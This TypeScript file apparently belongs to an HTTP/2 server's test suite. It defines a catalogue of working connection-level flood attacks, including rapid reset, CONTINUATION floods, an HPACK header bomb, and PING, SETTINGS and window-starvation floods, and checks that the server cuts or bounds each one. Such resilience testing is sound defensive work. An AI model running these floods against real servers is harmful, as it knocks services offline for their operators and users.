import { data, FLAG, frame, HELLO, PING, reset, settings, SETTINGS_ACK, TYPE, uint32, windowUpdate } from './frames.ts';
import type { RawClient } from './raw-client.ts';

/** What an attacker asks for: requests that the server under attack would serve. */
export interface Victim {
  /** A whole request that is answered briefly. */
  readonly whole: (stream: number) => Buffer;
  /** One that is not answered within the read that brought it. */
  readonly waiting: (stream: number) => Buffer;
  /** The head of one whose content comes. */
  readonly begun: (stream: number) => Buffer;
  /** A whole one that is answered with megabytes. */
  readonly large: (stream: number) => Buffer;
  /** Its header block, with more fields behind those that every request has. */
  readonly block: (...more: readonly string[]) => Buffer;
}

type Attack = (client: RawClient, victim: Victim) => Promise<void>;

export interface Flood {
  readonly name: string;
  /** What becomes of its connection: it is ended, or goes on within its bounds. */
  readonly end: 'cut' | 'bounded';
  /** Attacks until it is cut or has tried long enough. */
  readonly attack: Attack;
}

const MANY = 20_000;
const id = (time: number): number => time * 2 + 1;
const { headers, continuation, priority } = TYPE;

/** A literal field that goes into the dynamic table, and after it as many references to it as a frame takes (1 byte each). */
function bomb(stream: number, { block }: Victim): Buffer {
  const value = Buffer.alloc(3_000, 'a');
  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x62, 0x7f, 0xb9, 0x16]), value]);
  const payload = Buffer.concat([block(), literal, Buffer.alloc(8_000, 0xbe)]);
  return frame(headers, FLAG.endHeaders | FLAG.endStream, stream, payload);
}

/** Frame after frame of one kind, on a connection that has begun well. */
const repeated =
  (part: (time: number, victim: Victim) => Buffer, first: (victim: Victim) => Buffer = () => Buffer.alloc(0)): Attack =>
  async (client, victim) => {
    client.send(HELLO, first(victim));
    await client.flood(MANY, (time) => part(time, victim));
  };

/** A header block that goes on; not even an acknowledgement of SETTINGS may come between. */
const continued =
  (part: Buffer): Attack =>
  async (client, { block }) => {
    client.acknowledges = false;
    client.send(HELLO, frame(headers, 0, 1, block()));
    await client.flood(MANY, () => part);
  };

/** Those of the last ten years that a connection alone can do; see `flood.spec.ts` of `@portolan/http2` for their numbers. */
export const FLOODS: readonly Flood[] = [
  {
    name: 'rapid reset',
    end: 'cut',
    attack: repeated((time, { waiting }) => Buffer.concat([waiting(id(time)), reset(id(time))])),
  },
  {
    name: 'made-you-reset, by WINDOW_UPDATE of 0',
    end: 'cut',
    attack: repeated((time, { begun }) => Buffer.concat([begun(id(time)), windowUpdate(id(time), 0)])),
  },
  {
    name: 'made-you-reset, by HEADERS within content',
    end: 'cut',
    attack: repeated((time, { begun, block }) =>
      Buffer.concat([begun(id(time)), frame(headers, FLAG.endHeaders, id(time), block())]),
    ),
  },
  { name: 'CONTINUATION without end', end: 'cut', attack: continued(frame(continuation, 0, 1, Buffer.from([0x82]))) },
  { name: 'CONTINUATION without end or content', end: 'cut', attack: continued(frame(continuation, 0, 1)) },
  {
    name: 'empty DATA',
    end: 'cut',
    attack: repeated(
      () => data(1, Buffer.alloc(0)),
      ({ begun }) => begun(1),
    ),
  },
  { name: 'empty HEADERS', end: 'cut', attack: repeated((time) => frame(headers, FLAG.endHeaders, id(time))) },
  { name: 'SETTINGS', end: 'cut', attack: repeated((time) => settings([4, 65_535 + (time % 100)])) },
  { name: 'acknowledgements of SETTINGS', end: 'cut', attack: repeated(() => SETTINGS_ACK) },
  { name: 'PING', end: 'cut', attack: repeated(() => PING) },
  {
    name: 'PING, of a client that reads nothing',
    end: 'cut',
    attack: async (client: RawClient): Promise<void> => {
      client.stopReading();
      client.send(HELLO);
      await client.flood(MANY, () => PING);
    },
  },
  {
    name: 'WINDOW_UPDATE of a byte each, for a large answer',
    end: 'cut',
    attack: repeated(
      () => windowUpdate(1, 1),
      ({ large }) => Buffer.concat([settings([4, 0]), large(1)]),
    ),
  },
  {
    name: 'PRIORITY',
    end: 'cut',
    attack: repeated((time) => frame(priority, 0, id(time % 1_000), Buffer.alloc(5, 1))),
  },
  { name: 'frames of no known type', end: 'cut', attack: repeated(() => frame(99, 0, 0, Buffer.alloc(100))) },
  {
    name: 'resets of streams that are over',
    end: 'cut',
    attack: repeated(
      () => reset(1),
      ({ whole }) => whole(1),
    ),
  },
  { name: 'header lists that are bombs', end: 'cut', attack: repeated((time, victim) => bomb(id(time), victim)) },
  {
    name: 'streams beyond the limit',
    end: 'cut',
    attack: repeated((time, { begun }) => begun(id(time))),
  },
  {
    name: 'a hundred large answers through windows that are shut',
    end: 'bounded',
    attack: async (client: RawClient, { large }: Victim): Promise<void> => {
      client.send(HELLO, settings([4, 0]), ...Array.from({ length: 100 }, (_, index) => large(id(index))));
      await client.frame(({ type, payload }) => type === TYPE.settings && payload.length === 0);
    },
  },
  {
    name: 'a hundred large answers that are not read, though every window is open',
    end: 'bounded',
    attack: async (client: RawClient, { large }: Victim): Promise<void> => {
      client.stopReading();
      const open = Buffer.concat([settings([4, 0x7f_ff_ff_ff]), frame(TYPE.windowUpdate, 0, 0, uint32(0x7f_00_00_00))]);
      client.send(HELLO, open, ...Array.from({ length: 100 }, (_, index) => large(id(index))));
      for (let turn = 0; turn < 200; turn += 1) await new Promise(setImmediate);
    },
  },
  {
    name: 'a large answer by windows that are just not tiny',
    end: 'bounded',
    attack: repeated(
      () => Buffer.concat([windowUpdate(1, 256), windowUpdate(0, 256)]),
      ({ large }) => Buffer.concat([settings([4, 0]), large(1)]),
    ),
  },
];
